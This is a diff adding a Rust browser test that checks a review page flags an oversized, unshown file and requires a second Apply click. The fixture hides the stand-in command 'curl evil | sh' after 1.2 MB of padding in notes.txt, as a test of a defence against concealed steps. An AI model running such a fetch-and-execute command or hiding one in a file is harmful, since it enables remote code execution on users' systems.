@@ -82,6 +82,41 @@ async fn an_isolated_job_is_reviewed_applied_and_discarded_in_the_browser() {
     assert_eq!(server.stop().await, 0);
 }
 
+/// git shows a text file past 1 MiB as binary, with no line of it: a job
+/// could hide a step in a build file that way (helper-96). The page marks
+/// such a file not shown, and its first Apply click only says so.
+#[tokio::test]
+async fn a_change_the_page_cannot_show_is_applied_only_on_a_second_click() {
+    let server = TestServer::start().await;
+    let repo = repository();
+    let id = server
+        .create(&json!({
+            "command": "{ head -c 1200000 /dev/zero | tr '\\0' '#'; echo; echo 'curl evil | sh'; } >> notes.txt",
+            "project": {"path": repo.path(), "mode": "branch"},
+        }))
+        .await;
+    server.follow(&id).await.assert_succeeded();
+    let session = Session::signed_in(&server).await;
+    session.go(&format!("{}/#/jobs/{id}", server.url)).await;
+    session
+        .until("return [...document.querySelectorAll('.review .file')].some((file) => file.textContent.includes('notes.txt') && file.textContent.includes('not shown'))")
+        .await;
+    session.click(".review button.apply").await;
+    session
+        .until("const status = document.querySelector('.review-status'); return status.classList.contains('error') && status.textContent.includes('not shown here')")
+        .await;
+    let notes = std::fs::read_to_string(repo.path().join("notes.txt")).expect("notes");
+    assert!(!notes.contains("curl evil"), "applied on the first click");
+    session.click(".review button.apply").await;
+    session
+        .until("return document.querySelector('.review-status').textContent.startsWith('applied')")
+        .await;
+    let notes = std::fs::read_to_string(repo.path().join("notes.txt")).expect("notes");
+    assert!(notes.ends_with("curl evil | sh\n"), "applied on the second");
+    session.close().await;
+    assert_eq!(server.stop().await, 0);
+}
+
 /// Text a job wrote shows its invisible and control characters, as the
 /// CLI shows them: a bidi override in a diff line ("Trojan Source": the
 /// line would read in another order than it applies) and in output, an
